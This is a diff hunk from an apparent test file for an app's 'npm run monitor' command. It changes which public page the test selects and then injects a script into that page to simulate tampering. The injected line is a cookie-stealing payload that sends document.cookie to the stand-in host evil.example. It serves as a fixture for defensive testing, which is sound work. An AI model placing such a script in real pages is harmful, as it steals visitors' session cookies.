@@ -299,7 +299,7 @@ describe('npm run monitor, by default', () => {
 
     // The last page an app outside lab mode serves to anyone (the lab's panel is served in lab mode
     // only, the seller area with a session only).
-    const last = PAGE_FILES.filter((file) => !file.labOnly && file.access === 'public').at(-1);
+    const last = PAGE_FILES.filter((file) => file.access === 'public').at(-1);
     if (!last) throw new Error('the server lists no page');
     await inject(last.file, '<script>new Image().src = "https://evil.example/?" + document.cookie</script>');
     // The server reads pages at startup: the tampered build shows in a new app on the same folder
